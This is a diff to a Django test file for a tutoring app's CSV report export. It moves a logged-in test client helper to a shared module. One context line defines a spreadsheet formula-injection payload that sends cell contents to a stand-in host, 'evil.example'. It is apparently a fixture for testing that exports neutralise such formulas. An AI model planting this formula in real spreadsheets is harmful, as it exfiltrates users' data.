@@ -7,10 +7,10 @@ import csv
 import io
 
 import pytest
-from django.test import Client
 from django.urls import reverse
 
 from tests import factories
+from tests.clients import client_for
 from tests.conftest import Personas
 from tutor.classroom.models import Enrollment, User
 from tutor.reports.spreadsheet import spreadsheet_cell
@@ -24,12 +24,6 @@ HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1, "Click for your grade
 def rows_of(response) -> list[list[str]]:
     assert response["Content-Type"].startswith("text/csv")
     return list(csv.reader(io.StringIO(response.content.decode())))
-
-
-def client_for(user: User) -> Client:
-    client = Client()
-    client.force_login(user)
-    return client
 
 
 @pytest.mark.parametrize(
